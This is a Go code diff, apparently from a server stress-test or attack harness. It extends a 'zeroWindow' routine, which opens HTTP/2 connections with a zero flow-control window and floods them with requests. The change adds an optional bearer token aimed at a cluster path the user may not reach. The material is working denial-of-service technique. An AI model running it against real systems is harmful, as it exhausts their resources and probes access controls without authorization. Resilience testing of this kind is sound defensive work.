@@ -24,8 +24,13 @@ var errClosed = errors.New("the server has closed the connection")
 // redirected is a path that a mux redirects, with the query in the answer's head: a large answer to a small request.
 var redirected = "//x?" + strings.Repeat("q", 3900)
 
-// zeroWindow requests many answers and allows no byte of their bodies.
+// zeroWindow requests many answers and allows no byte of their bodies. With a person's token it requests a cluster that the person may not
+// reach.
 func zeroWindow(ctx context.Context, v *victim) {
+	path, fields := "/metrics", []string(nil)
+	if v.personToken != "" {
+		path, fields = "/clusters/unknown/api", []string{"authorization", "Bearer " + v.personToken}
+	}
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 		if err != nil {
@@ -33,7 +38,7 @@ func zeroWindow(ctx context.Context, v *victim) {
 		}
 		defer f.Close()
 		for range streamsPerConnection {
-			if _, err := f.request(true, "GET", "/metrics"); err != nil {
+			if _, err := f.request(true, "GET", path, fields...); err != nil {
 				return err
 			}
 		}
